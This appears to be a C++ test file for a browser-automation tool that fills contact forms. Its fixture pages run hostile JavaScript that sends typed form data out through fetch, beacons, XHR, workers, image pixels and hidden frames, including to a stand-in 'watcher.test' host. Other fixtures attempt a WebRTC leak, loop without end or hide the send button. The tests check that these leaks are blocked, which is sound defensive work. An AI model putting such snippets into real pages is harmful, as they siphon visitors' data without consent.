// Pages that do what no page should: every step still ends, in time and in one result.
#include <catch2/catch.hpp>

#include <algorithm>
#include <boost/asio/ip/udp.hpp>

#include "core/base/text.hpp"
#include "core/page/page.hpp"
#include "tests/support/browser_rig.hpp"

using namespace legwork;
using namespace legwork::tests;
using namespace std::chrono_literals;
using core::ObserveUntil;

namespace {

std::string form_with(std::string_view script) {
  return "<!doctype html><html><head><title>Contact us</title></head><body><h1>Contact us</h1>"
         "<form id=f action=/sent method=post><label>Name <input name=name></label>"
         "<label>Email <input name=email type=email></label><label>Message <textarea "
         "name=message></textarea></label>"
         "<button id=b>Send</button></form><script>" +
         std::string(script) + "</script></body></html>";
}

struct Filled {
  core::PageId page;
  core::FillPlan plan;
};

Filled fill(BrowserRig& rig, std::string_view path) {
  auto const page = rig.open();
  rig.go(page, rig.page(path));
  auto const seen = rig.look(page, ObserveUntil::form);
  auto const plan = rig.plan_of(*seen.snapshot);
  rig.fill(page, *seen.snapshot);
  return {page, plan};
}

} // namespace

TEST_CASE("a form that sends itself while it is filled is stopped", "[P07]") {
  BrowserRig rig({{"/early", form_with("document.querySelector('[name=email]').addEventListener('change',()=>{"
                                       "fetch('/beacon',{method:'POST',body:new FormData(f)});f.submit()})")},
                  {"/sent", "<h1>Thank you</h1>"}});
  auto const [page, plan] = fill(rig, "/early");
  CHECK(rig.server.posted().empty());
  rig.browser().perform(core::PressSend{
      .step = rig.step(), .page = page, .token = 1, .button = plan.submit, .limit = core::Duration{20'000}});
  auto const sent = rig.next<core::SendPressed>();
  CHECK(sent.sent);
  rig.browser().perform(core::WatchAfter{rig.step(), page, 1, core::Duration{20'000}});
  auto const record = rig.next<core::OutcomeWatched>().record;
  CHECK(rig.server.posted().size() == 1);
  std::size_t blocked = 0;
  for (auto const& request : record->requests) blocked += request.fate == core::RequestFate::blocked ? 1 : 0;
  CHECK(blocked >= 2);
}

TEST_CASE("closing a page lets nothing out of it that was paused", "[P07][P81]") {
  // A script that sends what is typed without end, with a body that must be asked for: at any moment some of its
  // requests are paused and not ruled on yet.
  BrowserRig rig({{"/endless", form_with("document.querySelector('[name=email]').addEventListener('change',e=>{"
                                         "const body=btoa(e.target.value)+'x'.repeat(99999);setInterval(()=>"
                                         "fetch('/leak',{method:'POST',body}).catch(()=>{}),20)})")}});
  for (core::ContactId contact : std::vector<core::ContactId>{1, 2, 3}) {
    auto const page = rig.open(contact);
    rig.go(page, rig.page("/endless"));
    rig.fill(page, *rig.look(page, ObserveUntil::form).snapshot);
    CHECK(rig.server.posted().empty());
    rig.browser().perform(core::ClosePage{page, contact});
    CHECK(rig.next<core::PageClosed>(15s).trouble == "");
    rig.run_for(300ms);
    CHECK(rig.server.posted().empty());
  }
}

TEST_CASE("WebRTC sends nothing around the proxy", "[P12]") {
  namespace ip = boost::asio::ip;
  boost::asio::io_context io;
  ip::udp::socket stun(io, {ip::make_address("127.0.0.1"), 0});
  stun.non_blocking(true);
  std::string const server = "stun:127.0.0.1:" + std::to_string(stun.local_endpoint().port());
  BrowserRig rig({{"/rtc", form_with("const c=new RTCPeerConnection({iceServers:[{urls:'" + server +
                                     "'}]});c.createDataChannel('x');c.onicegatheringstatechange=()=>{"
                                     "if(c.iceGatheringState=='complete')document.title='gathered'};"
                                     "c.createOffer().then(o=>c.setLocalDescription(o))")}});
  auto const page = rig.open();
  rig.go(page, rig.page("/rtc"));
  std::string title;
  for (int looks = 0; title != "gathered" && looks < 40; ++looks) {
    rig.run_for(250ms);
    title = rig.look(page, ObserveUntil::document_ready).snapshot->title;
  }
  CHECK(title == "gathered"); // or nothing was tried
  char packet[64];
  boost::system::error_code error;
  stun.receive(boost::asio::buffer(packet), 0, error);
  CHECK(error == boost::asio::error::would_block);
}

TEST_CASE("an endless loop at the press ends in a result, with nothing sent", "[P07][P36]") {
  BrowserRig rig({{"/loop", form_with("f.addEventListener('submit',e=>{e.preventDefault();while(true){}})")}});
  auto const [page, plan] = fill(rig, "/loop");
  auto const before = std::chrono::steady_clock::now();
  rig.browser().perform(core::PressSend{
      .step = rig.step(), .page = page, .token = 1, .button = plan.submit, .limit = core::Duration{6'000}});
  auto const sent = rig.next<core::SendPressed>(15s);
  CHECK_FALSE(sent.sent);
  CHECK(sent.record->latch_closed);
  CHECK(std::chrono::steady_clock::now() - before < 12s);
  rig.browser().perform(core::ClosePage{page, 1});
  CHECK(rig.next<core::PageClosed>(15s).page == page);
  CHECK(rig.go(rig.open(2), rig.site("bluebird-motors.test")).status == 200);
}

TEST_CASE("a page that never answers again fails its look in time", "[P36]") {
  BrowserRig rig({{"/busy", "<h1>Busy</h1><script>setTimeout(()=>{while(true){}},50)</script>"}});
  auto const page = rig.open();
  rig.go(page, rig.page("/busy"));
  rig.browser().perform(core::Observe{rig.step(), page, ObserveUntil::form, core::Duration{3'000}});
  auto const failed = std::get<core::StepFailed>(rig.next_result(8s));
  CHECK(failed.problem == core::StepProblem::timed_out);
}

TEST_CASE("dialogs are answered, and an alert after the press is kept as evidence", "[P36]") {
  BrowserRig rig(
      {{"/talks", form_with("alert('hello');confirm('leave?');prompt('name?');onbeforeunload=e=>e.preventDefault();"
                            "f.addEventListener('submit',e=>{e.preventDefault();alert('Thanks, '+f.name.value)})")}});
  auto const [page, plan] = fill(rig, "/talks");
  rig.browser().perform(core::PressSend{
      .step = rig.step(), .page = page, .token = 1, .button = plan.submit, .limit = core::Duration{10'000}});
  auto const sent = rig.next<core::SendPressed>();
  CHECK_FALSE(sent.sent);
  REQUIRE(sent.record->dialogs.size() == 1);
  CHECK(sent.record->dialogs[0] == "Thanks, {full_name}");
  REQUIRE(*sent.record->account);
  CHECK(core::is_void(**sent.record->account));
  CHECK((**sent.record->account).is_context_gone); // it can only end, so nothing of it is left
  rig.browser().perform(core::ClosePage{page, 1});
  CHECK(rig.next<core::PageClosed>(15s).trouble == "");
  rig.go(rig.open(2), rig.site("bluebird-motors.test"));
}

TEST_CASE("popups are closed and downloads go nowhere", "[browser]") {
  BrowserRig rig({{"/pops", form_with("open('/other');b.addEventListener('mousedown',()=>open('/another'))")},
                  {"/file",
                   "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                   "filename=x.bin\r\nContent-Length: 4\r\nConnection: close\r\n\r\nabcd"},
                  {"/nothing", "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"}});
  auto const page = rig.open();
  rig.go(page, rig.page("/pops"));
  CHECK(core::classify_page(*rig.look(page, ObserveUntil::form).snapshot).contact_form >= 0);
  rig.browser().perform(core::Navigate{rig.step(), page, rig.page("/file"), core::Duration{10'000}});
  CHECK(std::get<core::StepFailed>(rig.next_result()).problem == core::StepProblem::not_a_page);
  rig.browser().perform(core::Navigate{rig.step(), page, rig.page("/nothing"), core::Duration{10'000}});
  CHECK(std::get<core::StepFailed>(rig.next_result()).problem == core::StepProblem::not_a_page);
}

TEST_CASE("a huge page is looked at within its limits", "[P36]") {
  std::string const script =
      "for(let i=0;i<60000;i++){const d=document.createElement('div');d.innerHTML='<a "
      "href=/'+i+'>x<b>'+i+'</b></a>';document.body.append(d)}";
  BrowserRig rig({{"/huge", form_with(script)}});
  auto const page = rig.open();
  rig.go(page, rig.page("/huge"));
  auto const seen = rig.look(page, ObserveUntil::form, core::Duration{15'000});
  CHECK(seen.snapshot->links.size() == 400);
  CHECK(seen.snapshot->text.size() <= 20'000);
  CHECK(core::classify_page(*seen.snapshot).contact_form >= 0);
}

TEST_CASE("a covered button is not pressed, and nothing is sent", "[P07]") {
  BrowserRig rig(
      {{"/covered", form_with("f.message.addEventListener('change',()=>{const d=document.createElement('div');"
                              "d.style.cssText='position:fixed;inset:0;background:#fff;z-index:9';document."
                              "body.append(d)})")}});
  auto const [page, plan] = fill(rig, "/covered");
  rig.browser().perform(core::PressSend{
      .step = rig.step(), .page = page, .token = 1, .button = plan.submit, .limit = core::Duration{10'000}});
  auto const failed = std::get<core::StepFailed>(rig.next_result());
  CHECK(failed.problem == core::StepProblem::covered);
  CHECK(rig.server.posted().empty());
}

TEST_CASE("a form that re-renders under the hand is told as gone", "[P34]") {
  BrowserRig rig({{"/again", form_with("f.name.addEventListener('change',()=>{f.innerHTML=f.innerHTML})")}});
  auto const page = rig.open();
  rig.go(page, rig.page("/again"));
  auto const seen = rig.look(page, ObserveUntil::form);
  rig.browser().perform(core::FillForm{rig.step(), page, rig.plan_of(*seen.snapshot), core::Duration{20'000}});
  CHECK(std::get<core::StepFailed>(rig.next_result()).problem == core::StepProblem::control_gone);
}

TEST_CASE("masked fields and single-page frameworks get real keys", "[browser]") {
  BrowserRig rig(
      {{"/mask",
        form_with("const "
                  "p=document.createElement('input');p.name='phone';p.type='tel';p.placeholder='Phone';f.prepend(p)"
                  ";"
                  "let n=0;p.addEventListener('keydown',e=>{if(/\\d/.test(e.key))n++});"
                  "p.addEventListener('input',()=>{const d=p.value.replace(/\\D/g,'').slice(0,10);"
                  "p.value=d.length>6?`(${d.slice(0,3)}) ${d.slice(3,6)}-${d.slice(6)}`:d;p.title=String(n)})")}});
  auto const page = rig.open();
  rig.go(page, rig.page("/mask"));
  auto const seen = rig.look(page, ObserveUntil::form);
  auto const filled = rig.fill(page, *seen.snapshot);
  for (auto const& reading : filled.readings) CHECK(reading.outcome == core::FillOutcome::accepted);
  for (auto const& control : filled.snapshot->controls) {
    if (control.name == "phone") CHECK(control.title == "10");
  }
}

TEST_CASE("a form that sends into a window of its own passes the same latch", "[P07]") {
  BrowserRig rig({{"/blank", form_with("f.target='_blank';f.email.addEventListener('change',()=>f.submit())")},
                  {"/sent", "<title>Thank you</title><h1>Thank you, your message has been sent.</h1>"}});
  auto const [page, plan] = fill(rig, "/blank");
  rig.run_for(300ms);
  CHECK(rig.server.posted().empty());
  rig.browser().perform(core::PressSend{
      .step = rig.step(), .page = page, .token = 1, .button = plan.submit, .limit = core::Duration{20'000}});
  CHECK(rig.next<core::SendPressed>().sent);
  rig.browser().perform(core::WatchAfter{rig.step(), page, 1, core::Duration{20'000}});
  auto const record = rig.next<core::OutcomeWatched>().record;
  CHECK(rig.server.posted().size() == 1);
  CHECK(core::contains(record->after.text, "your message has been sent"));
}

TEST_CASE("a form that sends into a hidden frame is followed there", "[P07]") {
  BrowserRig rig(
      {{"/hidden",
        form_with("const "
                  "i=document.createElement('iframe');i.name='x';i.style.display='none';document.body.append(i);"
                  "f.target='x';i.addEventListener('load',()=>{if(i.contentWindow.location.pathname==='/sent')"
                  "document.querySelector('h1').textContent='Thank you, we have received it'})")},
       {"/sent", "<p>ok</p>"}});
  auto const [page, plan] = fill(rig, "/hidden");
  rig.browser().perform(core::PressSend{
      .step = rig.step(), .page = page, .token = 1, .button = plan.submit, .limit = core::Duration{20'000}});
  CHECK(rig.next<core::SendPressed>().sent);
  rig.browser().perform(core::WatchAfter{rig.step(), page, 1, core::Duration{20'000}});
  auto const record = rig.next<core::OutcomeWatched>().record;
  REQUIRE(record->after.headings.size() == 1);
  CHECK(record->after.headings[0] == "Thank you, we have received it");
  CHECK(rig.server.posted().size() == 1);
}

TEST_CASE("no way out of the page carries the message while no token is armed", "[P07][P81]") {
  BrowserRig rig(
      {{"/ways",
        form_with("f.message.addEventListener('change',()=>{const d=f.message.value,u='message='+encodeURIComponent(d);"
                  "fetch('/fetch',{method:'POST',body:u,keepalive:true});navigator.sendBeacon('/ping',u);"
                  "const x=new XMLHttpRequest();x.open('POST','/xhr');x.send(u);"
                  "new Worker(URL.createObjectURL(new "
                  "Blob([`fetch('${location.origin}/worker',{method:'POST',body:'${u}'})`])));"
                  "const s=document.createElement('script');s.src='/jsonp?'+u;document.body.append(s);new "
                  "Image().src='/pixel?'+u;"
                  "const "
                  "i=document.createElement('iframe');i.name='x';document.body.append(i);f.target='x';f.submit();f."
                  "target='';"
                  "try{new SharedWorker(URL.createObjectURL(new "
                  "Blob([`fetch('${location.origin}/shared',{method:'POST',body:'${u}'})`])))}catch{}"
                  "})")}});
  auto const [page, plan] = fill(rig, "/ways");
  rig.run_for(800ms);
  for (auto const& posted : rig.server.posted()) UNSCOPED_INFO(posted.path);
  CHECK(rig.server.posted().empty());
  for (auto const& asked : rig.server.asked()) CHECK_FALSE(core::contains(asked, "message="));
}

TEST_CASE("a script that copies the form is not taken for it", "[P07]") {
  BrowserRig rig(
      {{"/copied", form_with("b.addEventListener('click',()=>{fetch('http://watcher.test:'+location.port+'/copy',"
                             "{method:'POST',mode:'no-cors',body:new FormData(f)});navigator.sendBeacon('/copy',new "
                             "FormData(f))})")},
       {"/sent", "<h1>Thank you, we have received your message</h1>"}});
  auto const [page, plan] = fill(rig, "/copied");
  rig.browser().perform(core::PressSend{
      .step = rig.step(), .page = page, .token = 1, .button = plan.submit, .limit = core::Duration{20'000}});
  CHECK(rig.next<core::SendPressed>().sent);
  rig.browser().perform(core::WatchAfter{rig.step(), page, 1, core::Duration{20'000}});
  auto const record = rig.next<core::OutcomeWatched>().record;
  auto const followed = std::ranges::find_if(record->requests, [](auto const& seen) { return *seen.is_followed; });
  REQUIRE(followed != record->requests.end());
  CHECK(core::contains(followed->url, "/sent"));
  std::size_t sent_times = 0;
  for (auto const& posted : rig.server.posted()) sent_times += posted.path == "/sent" ? 1 : 0;
  CHECK(sent_times == 1); // what else a site does at a visitor's press is its own affair
}

TEST_CASE("a bubble that thanks every visitor is told apart from the page's answer", "[P08][P83]") {
  std::string const bubble =
      "const b=document.createElement('div');b.style='position:fixed;right:0;bottom:0';"
      "b.textContent='Thanks for your message! How are you?';document.body.append(b);";
  std::string const note = "const n=document.createElement('p');n.textContent='We sell cars.';document.body.append(n);";
  BrowserRig rig({{"/bubble", form_with("f.addEventListener('submit',e=>{e.preventDefault();fetch('/sent',{method:"
                                        "'POST',body:new FormData(f)}).then(()=>{" +
                                        bubble + note + "})})")},
                  {"/sent", "<p>ok</p>"}});
  auto const [page, plan] = fill(rig, "/bubble");
  rig.browser().perform(core::PressSend{
      .step = rig.step(), .page = page, .token = 1, .button = plan.submit, .limit = core::Duration{20'000}});
  REQUIRE(rig.next<core::SendPressed>().sent);
  rig.browser().perform(core::WatchAfter{rig.step(), page, 1, core::Duration{20'000}});
  auto const record = rig.next<core::OutcomeWatched>().record;
  CHECK(*record->after.aside == std::vector<std::string>{"Thanks for your message! How are you?"});
  CHECK(core::contains(record->after.text, "\nWe sell cars.")); // a block a line
  CHECK(core::judge(*record).grade == core::Grade::unknown);
}
